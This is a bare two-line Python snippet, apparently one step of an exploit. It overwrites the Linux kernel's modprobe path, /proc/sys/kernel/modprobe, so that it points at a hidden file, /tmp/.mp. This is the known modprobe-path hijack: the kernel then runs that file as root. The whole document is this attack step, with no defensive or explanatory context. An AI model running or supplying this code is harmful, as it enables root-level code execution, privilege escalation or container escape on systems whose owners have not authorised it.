with open("/proc/sys/kernel/modprobe", "w") as f:
    f.write("/tmp/.mp\n")
